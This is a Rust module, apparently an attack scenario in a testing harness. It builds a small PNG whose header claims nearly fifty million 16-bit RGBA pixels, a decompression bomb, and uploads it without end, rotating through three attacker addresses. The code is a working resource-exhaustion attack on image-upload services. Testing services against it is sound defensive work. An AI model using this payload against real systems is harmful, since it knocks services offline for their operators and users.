//! Uploads a picture of few bytes but nearly fifty million pixels, eight bytes each.

use std::io::{self, Write};

use flate2::{Compression, Crc, write::ZlibEncoder};
use tokio::task::spawn_blocking;

use super::{pause, upload};
use crate::ground::Ground;

const SIDE: u32 = 7_000;
const BYTES_OF_A_PIXEL: usize = 8;
const ADDRESSES: usize = 3;

pub(super) async fn run(ground: Ground) {
    let Ok(Ok(png)) = spawn_blocking(png).await else {
        return;
    };
    let request = upload::of_one(&ground, "night.png", &png);
    for wave in 0.. {
        ground
            .ask(ground.attackers.nth(wave % ADDRESSES), &request)
            .await;
        pause(1.0).await;
    }
}

/// All black, 16 bits a channel, with transparency.
fn png() -> io::Result<Vec<u8>> {
    let mut head = [SIDE.to_be_bytes(), SIDE.to_be_bytes()].concat();
    head.extend([16, 6, 0, 0, 0]);
    // The first byte of each row names its filter.
    let row = vec![0; 1 + SIDE as usize * BYTES_OF_A_PIXEL];
    let mut rows = ZlibEncoder::new(Vec::new(), Compression::fast());
    for _ in 0..SIDE {
        rows.write_all(&row)?;
    }
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, bytes) in [
        (b"IHDR", head),
        (b"IDAT", rows.finish()?),
        (b"IEND", vec![]),
    ] {
        let mut sum = Crc::new();
        sum.update(kind);
        sum.update(&bytes);
        png.extend((bytes.len() as u32).to_be_bytes());
        png.extend(kind);
        png.extend(bytes);
        png.extend(sum.sum().to_be_bytes());
    }
    Ok(png)
}
